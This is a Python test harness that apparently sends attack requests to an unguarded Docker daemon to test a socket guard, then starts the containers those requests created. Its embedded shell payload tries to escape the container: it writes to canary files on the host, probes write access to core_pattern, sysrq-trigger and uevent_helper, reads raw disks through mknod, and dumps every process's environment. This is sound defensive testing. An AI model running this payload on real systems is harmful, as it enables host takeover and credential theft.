#!/usr/bin/env python3
"""tests/attack/send.py ROWS OUT CANARY - sends requests to the daemon from inside a practice machine, where nothing refuses them,
and starts whatever they made. Every container is of an image that attacks by itself. It judges nothing: that is done outside.

The rows are those of tests/gate/attack.py; what they say to be due is for the guard before somebody's own daemon.
"""
import concurrent.futures
import json
import os
import subprocess
import sys

import gate_attack as gate

SOCKET = '/run/docker.sock'
WITHIN = r'''
echo attacking from within
for m in / $(awk '{print $5}' /proc/self/mountinfo); do
	for f in $m{CANARY}/canary-* $m/proc/[0-9]*/root{CANARY}/canary-* $m/proc/[0-9]*/cwd{CANARY}/canary-*; do
		[ ! -e $f ] || { cat $f; echo harmed >>$f; }
	done
	p=$m/proc/sys/kernel/core_pattern
	[ ! -w $p ] || { v=$(cat $p) && echo "$v" >$p && echo REACHED $p; }
done 2>/dev/null
for f in /proc/sys/kernel/core_pattern /proc/sysrq-trigger /sys/kernel/uevent_helper; do (exec 3>>$f) 2>/dev/null && echo REACHED $f; done
for d in $(sed -n 's/^ *\([0-9]*\) *\([0-9]*\) .*[a-z]$/\1:\2/p' /proc/partitions); do
	mknod /disk b ${d%:*} ${d#*:} && head -c 16 /disk && echo REACHED disk $d
done 2>/dev/null
cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | sort -u
'''


def docker(*words, text=None):
    subprocess.run(['docker', *words], input=text, text=True, check=False, stdout=subprocess.DEVNULL)


def make_image(canary):
    folder = os.path.abspath('image')
    os.makedirs(folder, exist_ok=True)
    with open(folder + '/within', 'w', encoding='ascii') as file:
        file.write(WITHIN.replace('{CANARY}', canary))
    with open(folder + '/Dockerfile', 'w', encoding='ascii') as file:
        file.write('FROM busybox\nCOPY within /within\nCMD ["sh", "/within"]\n')
    docker('build', '-q', '-t', 'busybox:local', folder)


def listed():
    status, found = gate.request(SOCKET, 'GET', gate.API + '/containers/json?all=1')
    return {one['Id'] for one in found} if status == 200 and isinstance(found, list) else set()


def clear():
    for one in listed():
        gate.request(SOCKET, 'DELETE', f'{gate.API}/containers/{one}?force=1&v=1')
    docker('network', 'prune', '-f')
    docker('volume', 'prune', '-f')


def is_whole(scene):
    status, victim = gate.request(SOCKET, 'GET', f'{gate.API}/containers/{scene.victim}/json')
    return status == 200 and victim['State']['Running'] and gate.request(SOCKET, 'GET', gate.API + '/networks/' + scene.network)[0] == 200


class Sender:
    def __init__(self, out, canary):
        self.out, self.canary, self.seen, self.kinds = out, canary, set(), set()
        self.pool, self.started = concurrent.futures.ThreadPoolExecutor(4), []
        self.begin()

    def finish(self):
        for one in self.started:
            one.result()
        self.started = []
        clear()

    def begin(self):
        for attempt in range(5):
            self.finish()
            make_image(self.canary)  # some rows take its name
            try:
                self.scene = gate.Scene(SOCKET, SOCKET, SOCKET, '')
                break
            except SystemExit as error:  # something of the last one is still going
                print(attempt, error, flush=True)
        self.see()

    def see(self):
        """Containers that were not there."""
        new = listed() - self.seen
        self.seen |= new
        return new

    def start(self, one):
        _, made = gate.request(SOCKET, 'GET', f'{gate.API}/containers/{one}/json')
        kind = json.dumps([made.get('HostConfig'), made['Config'].get('WorkingDir')]) if isinstance(made, dict) and 'Config' in made else None
        if kind in self.kinds:
            return  # as good as one that was started already
        self.kinds.add(kind)
        status, _ = gate.request(SOCKET, 'POST', f'{gate.API}/containers/{one}/start')
        _, said = gate.request(SOCKET, 'GET', f'{gate.API}/containers/{one}/logs?stdout=1&stderr=1&follow=1')
        print('started', one[:12], status, json.dumps(said), file=self.out, flush=True)
        gate.request(SOCKET, 'DELETE', f'{gate.API}/containers/{one}?force=1&v=1')

    def send(self, row):
        status, _ = gate.attack(self.scene, row)
        print('request', row['id'], status, file=self.out, flush=True)
        for one in self.see():
            self.started.append(self.pool.submit(self.start, one))
        if (row['method'] != 'GET' or row.get('raw')) and not is_whole(self.scene):
            self.begin()


def main():
    rows, out, canary = sys.argv[1:]
    gate.SECONDS = 15
    os.environ['DOCKER_BUILDKIT'] = '0'
    with open(rows, encoding='utf-8') as file, open(out, 'w', encoding='utf-8', errors='surrogateescape') as answers:
        sender = Sender(answers, canary)
        for line in file:
            sender.send(json.loads(line))
        sender.finish()


main()
